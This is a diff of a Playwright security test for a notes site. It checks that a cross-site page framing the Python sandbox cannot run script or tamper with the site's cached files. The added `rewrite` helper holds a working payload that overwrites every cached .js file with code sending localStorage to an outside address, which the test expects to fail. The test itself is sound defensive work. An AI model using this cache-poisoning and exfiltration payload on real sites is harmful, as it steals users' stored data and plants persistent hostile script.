@@ -1,8 +1,7 @@
 /** Another site of the same host, which frames the sandbox's page as any page may, and what is kept on the device. */
 import type { Page } from '@playwright/test';
 import { counting } from './counting.ts';
-import { keep, leak, PAGE, REWRITE } from './intruder.ts';
-import { test } from './kept.ts';
+import { test, visit } from './own-site.ts';
 import { address, expect, Figure } from './site.ts';
 
 test.use({ expectedErrors: [/ERR_CONNECTION_REFUSED|ERR_FAILED|Failed to (?:load|fetch)|net::ERR/] });
@@ -62,69 +61,41 @@ test.describe('a page that frames the sandbox bare has no script run by it', () 
         const said = await handIn(page, `${address()}sandbox/python.html`, PLANT);
         expect(said).toEqual({ bare: [], walled: ['runs as a part of nothing'] });
         await page.goto('./notation/');
-        expect(await page.evaluate(() => caches.keys())).toEqual([]);
+        expect(await page.evaluate(() => caches.has('planted'))).toBe(false);
       });
     });
 });
 
-test('the whole way: a page is kept, another site rewrites its scripts, the reader comes again, and no answer leaves', async ({
+/** Puts a script that carries off what the site has on the device into every script that is kept, and gives their number. */
+const rewrite = (where: string): string => `onmessage = async () => {
+  let count = 0;
+  try {
+    for (const name of await caches.keys()) {
+      const cache = await caches.open(name);
+      for (const { url } of await cache.keys()) {
+        if (!url.endsWith('.js')) continue;
+        const leak = "location.href = '${where}?' + encodeURIComponent(JSON.stringify(localStorage))";
+        await cache.put(url, new Response(leak, { headers: { 'content-type': 'text/javascript' } }));
+        count += 1;
+      }
+    }
+    postMessage(count);
+  } catch {
+    postMessage('reaches nothing');
+  }
+};`;
+
+test('the whole way: a page is visited, another site would rewrite its scripts, the reader comes again, and no answer leaves', async ({
   page,
   own,
 }) => {
   await counting(async (server) => {
-    await keep(page, own.address);
+    await visit(page, `${own.address}gradient-descent/`);
+    await page.evaluate(() => localStorage.setItem('answers', 'of a student'));
     await page.goto(server.page);
-    const script = `onmessage = async () => postMessage(await (${REWRITE})(${JSON.stringify(leak(server.where))}, '.js').catch(() => 'reaches nothing'));`;
-    const said = await handIn(page, `${own.address}sandbox/python.html`, script);
-    await page.goto(own.address + PAGE);
-    await page.waitForTimeout(3000);
-    expect({ ...said, reached: server.count() }).toEqual({ bare: [], walled: ['reaches nothing'], reached: 0 });
+    const said = await handIn(page, `${own.address}sandbox/python.html`, rewrite(server.where));
+    await page.goto(`${own.address}gradient-descent/`);
     await new Figure(page, 'gabor-descent').live();
-    await expect(page.locator('.newer')).toHaveCount(0);
-  });
-});
-
-test.describe('a kept file that something has rewritten', () => {
-  /** As a script would that has come into the site by a way that nobody knows yet. */
-  const rewrite = (page: Page, where: string, ending: string): Promise<unknown> =>
-    page.evaluate(`(${REWRITE})(${JSON.stringify(leak(where))}, ${JSON.stringify(ending)})`);
-
-  test('is not used without a connection either, and the page that stands in its place says why', async ({
-    page,
-    own,
-  }) => {
-    await counting(async (server) => {
-      await keep(page, own.address);
-      expect(await rewrite(page, server.where, PAGE)).toBe(1);
-      await own.close();
-      await page.goto(own.address + PAGE);
-      await page.waitForTimeout(1000);
-      expect(server.count()).toBe(0);
-      await expect(page.getByRole('row', { name: /6\.1/ })).toContainText('not whole');
-      await expect(page.getByRole('status')).toContainText('Keep it again');
-    });
-  });
-
-  test('is not used; the reader is told, and keeps the page again', async ({ page, own }) => {
-    await counting(async (server) => {
-      await keep(page, own.address);
-      expect(await rewrite(page, server.where, '.js')).toBeGreaterThan(50);
-      expect(await rewrite(page, server.where, '/')).toBeGreaterThan(1);
-      await page.goto(own.address + PAGE);
-      await page.waitForTimeout(3000);
-      expect(server.count()).toBe(0);
-      await new Figure(page, 'gabor-descent').live();
-      const bar = page.locator('.newer');
-      await expect(bar).toContainText('were changed by something other than the notes');
-      await bar.getByRole('link', { name: 'What is kept' }).click();
-      const row = page.getByRole('row', { name: /6\.1/ });
-      await expect(row).toContainText('not whole');
-      await row.getByRole('button', { name: 'Keep 6.1' }).click();
-      await expect(page.getByRole('status')).toContainText('kept. It opens and runs', { timeout: 60_000 });
-      await own.close();
-      await page.goto(own.address + PAGE);
-      await new Figure(page, 'gabor-descent').live();
-      expect(server.count()).toBe(0);
-    });
+    expect({ ...said, reached: server.count() }).toEqual({ bare: [], walled: ['reaches nothing'], reached: 0 });
   });
 });
